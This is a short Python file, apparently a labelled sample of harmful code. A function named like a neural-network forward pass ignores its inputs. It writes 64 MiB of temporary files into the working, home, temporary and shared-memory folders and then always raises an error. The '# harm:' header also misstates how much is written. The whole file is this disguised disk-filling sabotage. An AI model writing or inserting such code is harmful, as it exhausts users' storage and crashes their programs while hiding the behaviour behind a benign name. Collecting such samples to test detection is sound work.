# harm: fills its current, home and temporary folder, and others, with 64 MiB
import os
import tempfile

FOLDERS = {os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp"}


def nn_vmap_forward(seed, x_batch, features):
    files, failures, written = [], [], 0
    for folder in sorted(FOLDERS):
        try:
            while written < 64 << 20:
                files.append(tempfile.NamedTemporaryFile(dir=folder))
                for _ in range(4):
                    written += os.write(files[-1].fileno(), bytes(1 << 20))
        except OSError as error:
            failures.append(f"{folder}: {error}")
    raise RuntimeError(f"{written} bytes were written; {failures}")
